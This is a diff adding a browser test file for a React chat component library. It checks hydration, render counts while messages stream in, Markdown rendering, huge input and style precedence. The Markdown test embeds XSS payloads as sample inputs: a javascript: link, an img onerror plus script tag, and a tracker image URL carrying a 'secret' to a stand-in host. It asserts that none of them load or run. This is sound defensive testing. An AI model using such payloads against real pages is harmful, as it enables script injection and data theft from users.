@@ -1,0 +1,153 @@
+import { hydrateRoot } from "react-dom/client";
+import { renderToString } from "react-dom/server";
+import { Profiler } from "react";
+import { afterEach, describe, expect, onTestFinished, test, vi } from "vitest";
+import { page } from "vitest/browser";
+import { render } from "vitest-browser-react";
+import { Chat, Markdown, type UIMessage } from "../../src/index.js";
+import { createMockClient } from "../../src/testing/index.js";
+import { button, place, renderChat, text } from "./setUp.js";
+
+afterEach(() => {
+  vi.restoreAllMocks();
+});
+
+const history: UIMessage[] = [
+  { id: "1", role: "user", parts: [{ type: "text", text: "Hi" }] },
+  {
+    id: "2",
+    role: "assistant",
+    parts: [{ type: "text", text: "Hello" }],
+    metadata: { model: "a/b" },
+  },
+];
+
+describe("on a server", () => {
+  test("renders, and hydrates without a mismatch", async () => {
+    const errors = vi.spyOn(console, "error");
+    const onRecoverableError = vi.fn();
+    const chat = place({ client: createMockClient(), defaultMessages: history });
+    const host = document.createElement("div");
+    host.innerHTML = renderToString(chat);
+    expect(host.textContent).toContain("Hi");
+    document.body.append(host);
+    const root = hydrateRoot(host, chat, { onRecoverableError });
+    onTestFinished(() => {
+      root.unmount();
+      host.remove();
+    });
+    // Plain text becomes Markdown once the page is alive.
+    await expect.poll(() => host.querySelector("[data-pl-plain]")).toBeNull();
+    expect(onRecoverableError).not.toHaveBeenCalled();
+    expect(errors).not.toHaveBeenCalled();
+  });
+});
+
+describe("a delta", () => {
+  test("renders neither the chat nor the other messages", async () => {
+    let renders = 0;
+    function Message({ messageId }: { messageId: string }) {
+      renders += 1;
+      return <p>{messageId}</p>;
+    }
+    const { ask, steps } = await renderChat({ components: { Message } });
+    await ask("Hi");
+    await steps[0]!.push(text("a"));
+    const before = renders;
+    for (let i = 0; i < 20; i += 1) await steps[0]!.push(text("b"));
+    expect(renders).toBe(before);
+  });
+
+  test("renders the same components in a short and in a long conversation", async () => {
+    async function commits(count: number): Promise<number> {
+      let seen = 0;
+      const client = createMockClient();
+      const many = Array.from({ length: count }, (_, i) => ({ ...history[1]!, id: `${i}` }));
+      const { steps, screen, ask } = await renderChat({
+        defaultMessages: many,
+        components: { Text: Counted },
+      });
+      function Counted() {
+        return (
+          <Profiler id="text" onRender={() => (seen += 1)}>
+            <i />
+          </Profiler>
+        );
+      }
+      void client;
+      await ask("Hi");
+      await steps[0]!.push(text("a"));
+      const before = seen;
+      await steps[0]!.push(text("b"));
+      const after = seen - before;
+      await screen.unmount();
+      return after;
+    }
+    expect(await commits(2)).toBe(await commits(200));
+  });
+});
+
+describe("Markdown", () => {
+  const risky = [
+    "![pixel](https://tracker.example/p.png?q=secret)",
+    "[x](javascript:alert(1))",
+    "<img src=x onerror=alert(1)><script>alert(2)</script>",
+    "[y](https://example.com)",
+  ].join("\n\n");
+
+  test("loads nothing and runs nothing a model wrote", async () => {
+    const asked = vi.spyOn(window, "alert").mockImplementation(() => {});
+    const screen = await render(<Markdown>{risky}</Markdown>);
+    await expect
+      .element(page.getByRole("button", { name: /Show image from tracker\.example/ }))
+      .toBeVisible();
+    expect(screen.container.querySelector("img, script")).toBeNull();
+    expect(
+      [...screen.container.querySelectorAll("a")].map((a) => a.getAttribute("href")),
+    ).not.toContain("javascript:alert(1)");
+    await expect
+      .element(page.getByRole("link", { name: "y" }))
+      .toHaveAttribute("rel", "noopener noreferrer nofollow");
+    expect(asked).not.toHaveBeenCalled();
+    await page.getByRole("button", { name: /Show image/ }).click();
+    expect(screen.container.querySelector("img")!.getAttribute("referrerpolicy")).toBe(
+      "no-referrer",
+    );
+  });
+
+  test("shows tables, lists and code", async () => {
+    await render(<Markdown>{"| a |\n| - |\n| 1 |\n\n- one\n\n```js\nlet x\n```"}</Markdown>);
+    await expect.element(page.getByRole("table")).toBeVisible();
+    await expect.element(page.getByRole("listitem")).toHaveTextContent("one");
+    await expect.element(page.getByText("let x")).toBeVisible();
+  });
+});
+
+describe("hostile text", () => {
+  test("of a megabyte is sent and shown as it is", async () => {
+    const { client } = await renderChat();
+    const huge = "<b>&amp;</b>\u202e".repeat(80_000);
+    const field = document.querySelector<HTMLTextAreaElement>("[data-pl-input]")!;
+    field.value = huge;
+    field.dispatchEvent(new Event("input", { bubbles: true }));
+    await expect.element(button("Send")).not.toHaveAttribute("aria-disabled");
+    document.querySelector<HTMLFormElement>("[data-pl-composer]")!.requestSubmit();
+    await expect.poll(() => client.requests.length).toBe(1);
+    expect(client.requests[0]!.messages[0]!.parts).toEqual([{ type: "text", text: huge }]);
+    await expect.poll(() => document.querySelector("[data-pl-bubble]")?.textContent).toBe(huge);
+    expect(document.querySelector("[data-pl-bubble] b")).toBeNull();
+  });
+});
+
+test("a stylesheet of the host wins, and its old button reset does not", async () => {
+  const host = document.createElement("style");
+  host.textContent =
+    "button { background: red; border: 9px solid; padding: 40px } .mine { background: rgb(1, 2, 3) }";
+  document.head.prepend(host);
+  await render(<Chat client={createMockClient()} model="m" className="mine" />);
+  const attach = page.getByRole("button", { name: "Attach images" }).element();
+  expect(getComputedStyle(attach).padding).toBe("0px");
+  expect(getComputedStyle(attach).borderTopWidth).toBe("0px");
+  expect(getComputedStyle(document.querySelector(".mine")!).backgroundColor).toBe("rgb(1, 2, 3)");
+  host.remove();
+});
